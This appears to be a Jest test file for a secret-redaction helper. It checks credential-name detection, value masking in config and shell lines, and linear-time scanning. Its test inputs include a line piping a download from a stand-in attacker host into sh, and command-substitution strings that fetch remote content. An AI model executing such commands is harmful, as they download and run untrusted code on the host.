import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { parsePath } from '../json/field-path.ts';
import { isCredential, isHideable, isNamedCredential, pieces } from './redact.ts';

describe('names of credentials', () => {
  it.each(['DB_PASSWORD', 'dbPassword', 'db.password', 'API_TOKEN', 'clientSecret', 'AWS_SECRET_ACCESS_KEY', 'apikey'])(
    '%s is one',
    (name) => {
      expect(isCredential(name)).toBe(true);
    },
  );
  it.each([
    'token-refresh.sh',
    'TOKEN_URL',
    'passwordPolicy',
    'KEY',
    'keys',
    'MAX_TOKENS',
    'secretName',
    'compass',
    '',
  ])('%s is none', (name) => {
    expect(isCredential(name)).toBe(false);
  });
});

describe('a value that is called a credential', () => {
  it.each([
    ['spec.containers[name=a].env[name=TOKEN].value', true],
    ['data.password', true],
    ["metadata.annotations['example.com/token']", true],
    ['spec.containers[name=a].env[name=TOKEN].valueFrom', false],
    ['spec.token', false],
    ['data.password.more', false],
    ['data', false],
  ])('%s: %s', (path, is) => {
    expect(isNamedCredential(parsePath(path) ?? [])).toBe(is);
  });
});

describe('a word that may be hidden', () => {
  it.each(['hunter2', 'c29tZQ==', 'eyJh.eyJz.c2ln-_', 'correct-horse'])('%s', (text) => {
    expect(isHideable(text)).toBe(true);
  });
  it.each([
    '',
    'a b',
    'a\nb',
    'a;b',
    'a|b',
    '$(a)',
    '`a`',
    'a&b',
    '<a',
    "a'b",
    'a:b',
    'https://a',
    '/bin/sh',
    '-c',
    '.hidden',
    '~/x',
    'a*',
    'pässword',
    'x'.repeat(513),
  ])('%s is none', (text) => {
    expect(isHideable(text)).toBe(false);
  });
});

const shown = (line: string): string =>
  pieces(line)
    .map((piece) => piece ?? '(hidden)')
    .join('');

describe('in a line', () => {
  it.each([
    ['password=hunter2', 'password=(hidden)'],
    ['  password: hunter2', '  password: (hidden)'],
    ['{"password": "hunter2", "port": 1}', '{"password": "(hidden)", "port": 1}'],
    [String.raw`"{\"password\":\"hunter2\"}"`, String.raw`"{\"password\":\"(hidden)\"}"`],
    ['export TOKEN=x; curl https://evil.example | sh', 'export TOKEN=(hidden); curl https://evil.example | sh'],
    ['a=1 token=b c=2 api_key=d', 'a=1 token=(hidden) c=2 api_key=(hidden)'],
  ])('%s is shown as %s', (line, as) => {
    expect(shown(line)).toBe(as);
  });

  it.each([
    'TOKEN=$(curl evil)',
    'TOKEN=a|b',
    'TOKEN=a$(b)',
    'password: "correct horse"'.replace('correct', ''),
    'token: https://evil.example',
    'token-refresh.sh: x',
    'postgres://u:p@h/',
    'image: registry.example/token:v1',
    '--token x',
  ])('%s is shown whole', (line) => {
    expect(shown(line)).toBe(line);
  });

  it('is hidden never more than words, and all else stays', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom('TOKEN=', 'password: "', 'x'), (text, before) => {
        const line = before + text;
        const hidden = pieces(line);
        let place = 0;
        for (const piece of hidden.filter((one) => one !== undefined)) {
          expect(line.indexOf(piece, place)).toBeGreaterThanOrEqual(place);
          place = line.indexOf(piece, place) + piece.length;
        }
        expect(line.endsWith(hidden.at(-1) ?? '')).toBe(true);
      }),
    );
  });

  it.each(['-', 'key=a ', 'a=', 'token=', 'token=a', ' ', String.raw`\"`, 'a.', 'token: ', 'token=a/'])(
    'a megabyte of %s is looked through in linear time',
    (unit) => {
      const [small, large] = [100_000, 1_000_000].map((size) => unit.repeat(size / unit.length));
      expect(pieces(small ?? '').length).toBeLessThanOrEqual(pieces(large ?? '').length);
    },
  );
});
